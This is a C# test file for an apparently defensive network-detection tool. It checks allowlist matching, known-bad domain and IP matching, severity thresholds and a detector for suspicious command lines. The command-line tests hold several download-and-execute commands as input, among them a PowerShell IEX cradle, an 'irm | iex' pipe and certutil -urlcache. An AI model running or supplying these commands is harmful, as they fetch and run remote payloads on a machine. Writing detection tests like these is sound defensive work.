using Cadence.Scoring;
using Cadence.Scoring.Tuning;

namespace Cadence.Tests.Scoring.Tuning;

public sealed class TuningMatchingTests
{
    private static readonly TuningFile Tuning = TuningFile.Default;

    [Theory]
    [InlineData("chrome.exe", "mail.google.com", "browser-webmail-refresh")]
    [InlineData("Chrome.EXE", "MAIL.Google.com", "browser-webmail-refresh")]
    [InlineData(@"C:\Program Files\Google\Chrome\Application\chrome.exe", "mail.google.com", "browser-webmail-refresh")]
    [InlineData("\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", "mail.google.com", "browser-webmail-refresh")]
    [InlineData("chrome.exe", "mail.google.com.", "browser-webmail-refresh")]
    [InlineData("chrome.exe", "https://mail.google.com/mail/u/0/", "browser-webmail-refresh")]
    [InlineData("msedge.exe", "teams.microsoft.com", "browser-chat-long-polling")]
    [InlineData("OneDrive.exe", "contoso.sharepoint.com", "onedrive-sync")]
    [InlineData("svchost.exe", "fe3.delivery.mp.microsoft.com", "windows-update")]
    [InlineData("svchost.exe", "www.msftconnecttest.com", "windows-connectivity-probe")]
    [InlineData("/opt/datadog-agent/bin/agent/datadog-agent", "intake.datadoghq.com", "datadog-agent")]
    public void AllowlistMatchesByProcessAndDomainSuffix(string process, string destination, string entry) =>
        Assert.Equal(entry, Tuning.Allowlist.Match(process, destination)?.Name);

    [Theory]
    [InlineData("chrome.exe", "evil.example")] // the browser is listed, the destination is not: an injected beacon
    [InlineData("evil.exe", "mail.google.com")] // the destination is listed, the process is not: malware using the service
    [InlineData("chrome.exe", "notgoogle.com")]
    [InlineData("chrome.exe", "mail.google.com.evil.example")]
    [InlineData("chrome.exe", "evilmail.google.com.example")]
    [InlineData("GoogleDriveFS.exe", "storage.googleapis.com")] // anyone's bucket
    [InlineData(null, "mail.google.com")] // a network sensor sees no process: nothing to vouch for
    [InlineData("", "mail.google.com")]
    [InlineData("chrome.exe", "")]
    [InlineData("chromeexe", "mail.google.com")]
    public void AllowlistDoesNotMatch(string? process, string destination) =>
        Assert.Null(Tuning.Allowlist.Match(process, destination));

    [Fact]
    public void DomainSuffixesMatchOnADotBoundary()
    {
        var entry = new AllowlistEntry("g", AllowlistClass.CloudSync, ["sync.exe"], ["google.com"], "test");
        Assert.True(entry.Matches("sync.exe", "google.com"));
        Assert.True(entry.Matches("sync.exe", "a.b.google.com"));
        Assert.False(entry.Matches("sync.exe", "notgoogle.com"));
        Assert.False(entry.Matches("sync.exe", "com"));
    }

    [Fact]
    public void KnownBadMatchesDomainSuffixesAddressesAndRanges()
    {
        var knownBad = new KnownBad(["evil.example", "C2.Example.Net."], ["203.0.113.7", "198.51.100.0/24", "2001:db8::/32"]);
        Assert.True(knownBad.Matches("evil.example", null));
        Assert.True(knownBad.Matches("a.b.EVIL.example", null));
        Assert.False(knownBad.Matches("notevil.example", null));
        Assert.False(knownBad.Matches("evil.example.com", null));
        Assert.Equal("C2.Example.Net.", knownBad.Match("x.c2.example.net", null));
        Assert.Equal("203.0.113.7", knownBad.Match("benign.example", "203.0.113.7"));
        Assert.Equal("203.0.113.7", knownBad.Match("benign.example", "::ffff:203.0.113.7"));
        Assert.Equal("198.51.100.0/24", knownBad.Match(null, "198.51.100.200"));
        Assert.Equal("2001:db8::/32", knownBad.Match(null, "2001:db8:1::5"));
        Assert.Equal("203.0.113.7", knownBad.Match("203.0.113.7", null)); // a destination with no name is its address
        Assert.False(knownBad.Matches("benign.example", "203.0.113.8"));
        Assert.False(knownBad.Matches(null, null));
        Assert.False(Tuning.KnownBad.Matches("evil.example", "203.0.113.7"));
    }

    [Fact]
    public void KnownBadIsComparedByContentAndReindexedByWith()
    {
        var a = new KnownBad(ValueList.Of(["evil.example"]), ValueList.Of<string>([]));
        var b = new KnownBad(ValueList.Of(["evil.example"]), ValueList.Of<string>([]));
        Assert.Equal(a, b);
        var c = a with { Domains = ["other.example"] };
        Assert.False(c.Matches("evil.example", null));
        Assert.True(c.Matches("x.other.example", null));
    }

    [Theory]
    [InlineData("powershell.exe", "powershell.exe")]
    [InlineData("PowerShell.EXE", "powershell.exe")]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe")]
    [InlineData("/usr/bin/python3", "python3")]
    [InlineData("curl", "curl")]
    [InlineData("chrome.exe", null)]
    [InlineData("powershell", null)]
    [InlineData(null, null)]
    [InlineData("", null)]
    public void SuspiciousProcessesMatchByFileName(string? process, string? expected) =>
        Assert.Equal(expected, Tuning.SuspiciousProcesses.Match(process)?.Name);

    [Theory]
    [InlineData("powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"", "Net.WebClient")]
    [InlineData("powershell.exe -c iwr http://203.0.113.7/a -OutFile a.exe", "iwr ")]
    [InlineData("POWERSHELL -C INVOKE-WEBREQUEST http://x", "Invoke-WebRequest")]
    [InlineData("powershell -c irm https://x/t | iex", "irm http")]
    [InlineData("certutil.exe -urlcache -split -f http://x/a.exe", "-urlcache")]
    [InlineData("powershell Remove-Item x -Confirm:$false", null)]
    [InlineData("chrome.exe --type=renderer", null)]
    [InlineData(null, null)]
    public void SuspiciousCommandLinesMatchSubstringsIgnoringCase(string? commandLine, string? expected) =>
        Assert.Equal(expected, Tuning.SuspiciousCommandLines.Match(commandLine)?.Contains);

    [Theory]
    [InlineData(0.0, Severity.Info)]
    [InlineData(0.4999, Severity.Info)]
    [InlineData(0.50, Severity.Low)]
    [InlineData(0.65, Severity.Medium)]
    [InlineData(0.79, Severity.Medium)]
    [InlineData(0.80, Severity.High)]
    [InlineData(0.90, Severity.Critical)]
    [InlineData(1.0, Severity.Critical)]
    [InlineData(double.NaN, Severity.Info)]
    public void SeverityThresholdsClassifyScores(double score, Severity expected) =>
        Assert.Equal(expected, Tuning.Severity.Classify(score));

    [Theory]
    [InlineData(Severity.Low, 1, Severity.Medium)]
    [InlineData(Severity.High, 2, Severity.Critical)]
    [InlineData(Severity.Medium, -2, Severity.Info)]
    [InlineData(Severity.Low, -5, Severity.Info)]
    [InlineData(Severity.Critical, 1, Severity.Critical)]
    [InlineData(Severity.Medium, int.MaxValue, Severity.Critical)]
    [InlineData(Severity.Medium, int.MinValue, Severity.Info)]
    [InlineData(Severity.Medium, 0, Severity.Medium)]
    public void RaiseIsClamped(Severity severity, int steps, Severity expected) =>
        Assert.Equal(expected, SeverityThresholds.Raise(severity, steps));

    [Theory]
    [InlineData(59, null)]
    [InlineData(60, Severity.Low)]
    [InlineData(4 * 60, Severity.Medium)]
    [InlineData(11 * 60 + 59, Severity.High)]
    [InlineData(48 * 60, Severity.Critical)]
    public void LongConnectionTiersClassifyCumulativeTime(int minutes, Severity? expected) =>
        Assert.Equal(expected, Tuning.LongConnections.Classify(TimeSpan.FromMinutes(minutes)));

    [Theory]
    [InlineData(1, 1000, true, false)]
    [InlineData(2, 10, true, false)]
    [InlineData(20, 1000, true, false)]
    [InlineData(21, 1000, false, false)]
    [InlineData(5, 50, false, true)]
    [InlineData(4, 10, false, false)]
    [InlineData(49, 1000, false, false)]
    [InlineData(50, 1000, false, true)]
    public void PrevalenceRareAndCommon(int devices, int fleet, bool rare, bool common)
    {
        Assert.Equal(rare, Tuning.Prevalence.IsRare(devices, fleet));
        Assert.Equal(common, Tuning.Prevalence.IsCommon(devices, fleet));
    }

    [Fact]
    public void WebPorts()
    {
        Assert.True(Tuning.Beacon.IsWebPort(443));
        Assert.False(Tuning.Beacon.IsWebPort(22));
    }
}
